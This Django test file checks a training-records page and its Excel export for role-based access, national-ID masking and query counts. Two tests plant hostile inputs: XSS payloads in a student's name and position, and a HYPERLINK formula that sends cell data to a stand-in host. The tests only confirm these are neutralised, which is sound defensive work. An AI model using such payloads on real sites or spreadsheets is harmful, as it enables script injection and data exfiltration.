"""The record's page (``records:student``) and workbook (``records:student_xlsx``): who opens
them, what they show, masked where they must be, and markup shown as text."""

from __future__ import annotations

import io

import openpyxl
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from daotao.cohorts.models import Enrollment
from daotao.demo import teaching_data as td
from daotao.grading.models import Credential, register_note
from daotao.lib import xlsx
from daotao.people.privacy import mask_national_id
from daotao.records.export import class_rows
from daotao.records.record import training_record
from daotao.records.tests.world import RecordWorld
from daotao.surveys.models import Answer
from daotao.testing import make_cohort, make_user


class RecordPageTests(RecordWorld):
    def page(self, user, student=None):
        self.client.force_login(user)
        return self.client.get(reverse("records:student", args=[(student or self.student).pk]))

    def workbook(self, user, student=None):
        self.client.force_login(user)
        response = self.client.get(reverse("records:student_xlsx", args=[(student or self.student).pk]))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], xlsx.CONTENT_TYPE)
        return response, openpyxl.load_workbook(io.BytesIO(response.content))

    def test_the_office_sees_her_whole_history(self):
        response = self.page(self.office)
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, self.student.national_id)
        for text in (
            td.TC_CODE,
            td.CV_CODE,
            "8,54",  # the program average of her graduation decision
            "TC 000028",  # her diploma's serial number
            "7,8",  # her essay's final score
            "245/QĐ-UBND",  # her appointment
            self.application.program.name,
        ):
            self.assertContains(response, text)
        self.assertContains(response, reverse("cohorts:detail", args=[self.cohort.code]))
        credential = training_record(self.student, self.office).credentials[0]
        self.assertContains(response, reverse("grading:credential", args=[credential.pk]))
        self.assertContains(response, reverse("admissions:detail", args=[self.application.pk]))
        self.assertContains(
            response, reverse("essays:detail", args=[self.student.enrollments.get(cohort=self.cohort).essay.pk])
        )
        self.assertContains(response, f"{reverse('surveys:outcome_add')}?student={self.student.pk}")
        self.assertContains(response, reverse("surveys:outcome_student", args=[self.student.pk]))
        self.assertNotContains(response, reverse("admissions:detail", args=[self.other_application.pk]))

    def test_rounds_are_listed_without_any_answer_or_who_answered(self):
        response = self.page(self.office)
        for invited in training_record(self.student, self.office).rounds:
            self.assertContains(response, invited.survey_round.title)
        texts = (
            Answer.objects.filter(response__round__cohort=self.cohort).exclude(text="").values_list("text", flat=True)
        )
        self.assertTrue(texts)
        for text in texts:
            self.assertNotContains(response, text)
        # The rounds' table says nothing of answering (the note above it says why).
        html = response.content.decode()
        table = html[html.index('id="rounds"') : html.index("</table>", html.index('id="rounds"'))]
        self.assertNotIn("trả lời</td>", table.replace("Người trả lời</th>", ""))
        self.assertNotIn("đã trả lời", table)
        self.assertNotIn("Số người trả lời", html)

    def test_the_board_sees_the_national_id_masked(self):
        masked = mask_national_id(self.student.national_id)
        response = self.page(self.board)
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, masked)
        self.assertNotContains(response, self.student.national_id)
        self.assertNotContains(response, self.application.national_id)
        # The board reads; it records no career event.
        self.assertNotContains(response, reverse("surveys:outcome_add"))
        _response, book = self.workbook(self.board)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]
        self.assertIn(masked, cells)
        self.assertNotIn(self.student.national_id, cells)
        self.assertNotIn(self.student.national_id, _response.content.decode("latin-1"))

    def test_another_locality_gets_404(self):
        for user in (self.other_coordinator, self.agency, self.classmate_user):
            with self.subTest(user=user.username):
                self.assertEqual(self.page(user).status_code, 404)
                self.client.force_login(user)
                response = self.client.get(reverse("records:student_xlsx", args=[self.student.pk]))
                self.assertEqual(response.status_code, 404)
        self.assertEqual(self.page(self.office, student=type(self.student)(pk=10**9)).status_code, 404)

    def test_who_opens_the_page(self):
        self.assertEqual(self.page(self.student_user).status_code, 200)
        self.assertEqual(self.page(self.coordinator).status_code, 200)
        self.assertEqual(self.page(self.lecturer).status_code, 200)
        self.assertEqual(self.page(make_user("hoso.nobody")).status_code, 403)
        self.client.logout()
        response = self.client.get(reverse("records:student", args=[self.student.pk]))
        self.assertEqual(response.status_code, 302)
        self.assertTrue(response["Location"].startswith(reverse("login")))

    def test_the_lecturer_sees_the_class_she_teaches_only(self):
        response = self.page(self.lecturer)
        self.assertContains(response, td.TC_CODE)
        self.assertNotContains(response, td.CV_CODE)
        self.assertNotContains(response, "TC 000028")
        self.assertNotContains(response, self.student.national_id)
        # The class she teaches leads to its hub, which she may open.
        self.assertContains(response, f'href="{reverse("cohorts:detail", args=[self.cohort.code])}"')

    def test_the_student_sees_her_own_credential_link_but_no_staff_page(self):
        response = self.page(self.student_user)
        self.assertContains(response, self.student.national_id)
        self.assertContains(response, "TC 000028")
        self.assertNotContains(response, reverse("cohorts:detail", args=[self.cohort.code]))
        credential = training_record(self.student, self.student_user).credentials[0]
        self.assertContains(response, reverse("grading:credential", args=[credential.pk]))

    def test_a_name_with_markup_is_text(self):
        self.student.set_name("Nguyễn <script>alert(1)</script> An")
        self.student.position = '<img src=x onerror="alert(2)">'
        self.student.save()
        response = self.page(self.office)
        self.assertNotContains(response, "<script>alert(1)</script>")
        self.assertNotContains(response, "<img src=x")
        self.assertContains(response, "&lt;script&gt;alert(1)&lt;/script&gt;")
        _response, book = self.workbook(self.office)
        self.assertEqual(book["HocVien"]["B2"].value, "Nguyễn <script>alert(1)</script> An")

    def test_the_workbook_holds_the_same_rows(self):
        response, book = self.workbook(self.office)
        self.assertIn(f"ho-so-dao-tao-{self.student.pk}.xlsx", response["Content-Disposition"])
        self.assertNotIn(self.student.national_id, response["Content-Disposition"])
        self.assertEqual(book.sheetnames, ["HocVien", "LopHoc", "TuyenSinh", "TieuLuan", "DanhGia", "CongTac"])
        identity = dict(book["HocVien"].iter_rows(min_row=2, values_only=True))
        self.assertEqual(identity["Số CCCD"], self.student.national_id)
        self.assertEqual(identity["Họ và tên"], self.student.full_name)
        record = training_record(self.student, self.office)
        expected = [[c.value if isinstance(c, xlsx.Cell) else c for c in row] for row in class_rows(record)]
        rows = [list(row) for row in book["LopHoc"].iter_rows(min_row=2, values_only=True)]
        # Dates come back as datetimes, numbers as floats.
        for row in rows:
            row[4:6] = [day.date() if day else None for day in row[4:6]]
        for row in expected:
            row[7] = float(row[7]) if row[7] is not None else None
        self.assertEqual(rows, expected)
        self.assertEqual([row[1] for row in rows], [td.TC_CODE, td.CV_CODE])
        self.assertEqual(rows[0][7], 8.54)
        self.assertEqual(rows[0][9], "Bằng tốt nghiệp TC 000028")
        essays = list(book["TieuLuan"].iter_rows(min_row=2, values_only=True))
        self.assertEqual(essays, [(td.TC_CODE, record.essays[0].title, "Đã chấm", 7.8)])
        rounds = list(book["DanhGia"].iter_rows(min_row=2, values_only=True))
        self.assertEqual([row[1] for row in rounds], [r.survey_round.title for r in record.rounds])
        self.assertEqual(list(book["TuyenSinh"].iter_rows(min_row=2, max_col=1, values_only=True)), [(2019,)])
        career = list(book["CongTac"].iter_rows(min_row=2, values_only=True))
        self.assertEqual([row[2:] for row in career], [("245/QĐ-UBND", "Phó Chủ tịch UBND phường Phú Mỹ")])

    def test_a_credential_of_a_merged_schools_register_is_named(self):
        """Issue 23: her diploma moved, as the merge would write it, into another register."""
        merged = "Trường Chính trị tỉnh Bình Phước"
        credential = training_record(self.student, self.office).credentials[0]
        Credential.objects.filter(pk=credential.pk).update(register=merged)
        self.assertContains(self.page(self.office), register_note(merged), count=1)
        _response, book = self.workbook(self.office)
        rows = list(book["LopHoc"].iter_rows(min_row=2, values_only=True))
        self.assertEqual(rows[0][9], f"Bằng tốt nghiệp TC 000028 ({register_note(merged)})")

    def test_a_formula_typed_as_a_name_stays_text(self):
        self.student.set_name('=HYPERLINK("http://x.test/?"&A1,"An")')
        self.student.save()
        response, book = self.workbook(self.office)
        cell = book["HocVien"]["B2"]
        self.assertEqual(cell.data_type, "s")
        self.assertEqual(cell.value, '=HYPERLINK("http://x.test/?"&A1,"An")')
        self.assertNotIn(b"<f>", response.content)


class RecordPageQueryTests(RecordWorld):
    def test_the_page_queries_do_not_grow_with_classes(self):
        self.client.force_login(self.office)
        address = reverse("records:student", args=[self.student.pk])
        self.client.get(address)  # the session's first read
        with CaptureQueriesContext(connection) as two_classes:
            self.client.get(address)
        for index in range(3):
            cohort = make_cohort(
                f"HOSO-P{index}", self.cohort.program, self.cohort.host_locality, self.cohort.opening_date
            )
            Enrollment.objects.create(cohort=cohort, student=self.student)
        with self.assertNumQueries(len(two_classes.captured_queries)):
            response = self.client.get(address)
        self.assertContains(response, "HOSO-P2")
